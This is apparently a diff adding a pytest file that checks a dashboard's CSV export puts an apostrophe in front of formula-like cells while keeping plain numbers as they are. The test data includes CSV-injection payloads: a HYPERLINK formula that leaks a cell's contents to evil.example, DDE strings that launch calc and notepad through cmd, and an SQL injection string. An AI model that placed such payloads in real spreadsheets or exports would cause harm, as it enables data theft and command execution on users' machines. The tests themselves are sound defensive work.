@@ -1,0 +1,124 @@
+"""CSV downloads are safe to open in a spreadsheet: text that starts like a formula is made inert.
+
+Decision for numbers: a cell whose whole text is a plain number ("-3", "+4.5", "-1e3", "45%",
+"+6281234567890") stays as it is; anything else starting with =, +, -, @, tab or carriage return
+gets an apostrophe in front. A phone number written with spaces ("+62 812 3456 7890") is not a
+plain number, so it is prefixed too (Excel would otherwise try to evaluate it).
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import math
+import re
+
+import pandas as pd
+import pytest
+
+from okrdash.export import neutralise, to_csv_bytes
+
+BOM = b"\xef\xbb\xbf"
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+PLAIN_NUMBER = re.compile(r"[+-]?(\d+([.,]\d+)*|\.\d+)([eE][+-]?\d+)?%?")
+
+FORMULAS = [
+    "=1+1",
+    '=HYPERLINK("http://x")',
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "-cmd|' /C notepad'!A0",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\t",
+    "=",
+    "-",
+    "+62 812 3456 7890",
+    "-3 apples",
+    "=1+1\n=2+2",
+    "-3\n=HYPERLINK(\"http://x\")",
+    "+1)",
+    "=-3",
+]
+PLAIN_NUMBERS = ["-3", "+4.5", "-1e3", "-0.5", "+6281234567890", "-1,234,567.89", "-2,5", "-10%", "+.5", "-3 "]
+ORDINARY_TEXT = ["Sales", "a=b", "Grow revenue +20%", "Rina@contoh.co.id", "", " =1+1", "'=already quoted",
+                 "Tingkatkan kepuasan pelanggan", "x'); DROP TABLE kpis; --"]
+
+
+def read_back(data: bytes) -> list[list[str]]:
+    assert data.startswith(BOM)
+    return list(csv.reader(io.StringIO(data[len(BOM):].decode("utf-8"), newline="")))
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_text_starting_like_a_formula_gets_an_apostrophe(value):
+    assert value.startswith(TRIGGERS)
+    assert neutralise(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", PLAIN_NUMBERS)
+def test_plain_numbers_stay_as_they_are(value):
+    assert neutralise(value) == value
+
+
+@pytest.mark.parametrize("value", ORDINARY_TEXT)
+def test_ordinary_text_is_unchanged(value):
+    assert neutralise(value) == value
+
+
+@pytest.mark.parametrize("value", [-3, -3.5, 0, 1e20, None, True, float("nan")])
+def test_values_that_are_not_text_are_unchanged(value):
+    result = neutralise(value)
+    assert result is value or (isinstance(value, float) and math.isnan(value) and math.isnan(result))
+
+
+def test_csv_download_is_inert_keeps_numbers_and_has_a_bom():
+    frame = pd.DataFrame({
+        "title": ['=HYPERLINK("http://x")', "Grow revenue", "@SUM(A1)", "-3", "+62 812 3456 7890"],
+        "value": [-3.5, 2.0, -0.25, 1e6, float("nan")],
+        "count": [-3, 0, 7, 12, 1],
+        "owner": pd.array(["+cmd|' /C calc'!A0", None, "Rina", "\t=1", "@Rina"], dtype="string"),
+        "status": pd.Categorical(["On Track", "=1+1", "At Risk", "Off Track", "On Track"]),
+        "mixed": ["-7", 5, "=A1", None, "-2,5"],
+    })
+    original = frame.copy()
+    data = to_csv_bytes(frame)
+    pd.testing.assert_frame_equal(frame, original)  # the caller's frame is left alone
+    assert data.startswith(BOM) and not data[len(BOM):].startswith(BOM)
+    rows = read_back(data)
+    assert rows[0] == list(frame.columns)
+    assert len(rows) == len(frame) + 1
+    body = [dict(zip(rows[0], r)) for r in rows[1:]]
+    assert [r["title"] for r in body] == ["'=HYPERLINK(\"http://x\")", "Grow revenue", "'@SUM(A1)", "-3",
+                                          "'+62 812 3456 7890"]
+    assert [r["value"] for r in body] == ["-3.5", "2.0", "-0.25", "1000000.0", ""]
+    assert [r["count"] for r in body] == ["-3", "0", "7", "12", "1"]
+    assert [r["owner"] for r in body] == ["'+cmd|' /C calc'!A0", "", "Rina", "'\t=1", "'@Rina"]
+    assert [r["status"] for r in body] == ["On Track", "'=1+1", "At Risk", "Off Track", "On Track"]
+    assert [r["mixed"] for r in body] == ["-7", "5", "'=A1", "", "-2,5"]
+
+
+def test_no_cell_of_a_download_starts_like_a_formula():
+    texts = [t for t in FORMULAS + PLAIN_NUMBERS + ORDINARY_TEXT if "\r" not in t]  # CR: see the next test
+    frame = pd.DataFrame({"text": texts, "number": [-(i + 0.5) for i in range(len(texts))]})
+    for row in read_back(to_csv_bytes(frame))[1:]:
+        for cell in row:
+            assert not cell.startswith(TRIGGERS) or PLAIN_NUMBER.fullmatch(cell.strip()), repr(cell)
+
+
+@pytest.mark.parametrize("value", ["\r=1+1", "ok\r=1+1", "note\r@SUM(A1)\r+2", "\r"])
+def test_a_carriage_return_in_a_cell_does_not_start_a_new_row(value):
+    """A spreadsheet reads a bare CR as the end of a row: a cell holding one must be quoted, or the
+    text after the CR lands, un-neutralised, at the start of a new row."""
+    frame = pd.DataFrame({"note": [value], "value": [-1.5]})
+    rows = read_back(to_csv_bytes(frame))
+    assert len(rows) == 2, rows
+    assert rows[1] == [neutralise(value), "-1.5"]
+
+
+def test_unicode_text_round_trips_in_utf8():
+    frame = pd.DataFrame({"catatan": ["Dua kesepakatan besar mundur ke tahun depan", "Straße", "日本語", "💥"]})
+    rows = read_back(to_csv_bytes(frame))
+    assert [r[0] for r in rows[1:]] == list(frame["catatan"])
